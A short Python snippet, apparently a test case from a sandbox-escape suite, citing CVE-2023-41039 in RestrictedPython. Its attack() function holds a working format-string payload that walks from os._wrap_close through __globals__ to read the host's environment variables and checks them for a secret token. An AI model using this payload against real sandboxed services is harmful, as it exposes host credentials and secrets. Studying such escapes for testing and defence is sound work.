"""Read the environment with nothing but a format string.

origin: CVE-2023-41039 (RestrictedPython: str.format), first described for Flask templates in 2016
why: format fields walk attributes and items past any guard on getattr
control: succeeds
"""


def attack(target):
    text = "{0.__init__.__globals__[environ]._data}".format(os._wrap_close)
    return escaped("the host's environment was read") if holds_token(target, text) else nothing("no secret in the environment")
